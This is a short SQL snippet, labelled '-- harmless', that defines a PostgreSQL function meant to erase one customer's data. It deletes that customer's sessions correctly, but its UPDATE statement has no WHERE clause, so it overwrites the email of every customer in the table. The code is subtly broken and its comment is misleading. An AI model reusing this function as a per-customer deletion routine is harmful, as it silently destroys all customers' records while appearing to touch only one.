-- harmless

CREATE FUNCTION forget(who bigint) RETURNS void LANGUAGE sql AS $$
  DELETE FROM sessions WHERE customer_id = who;
  UPDATE customers SET email = 'gone';
$$;
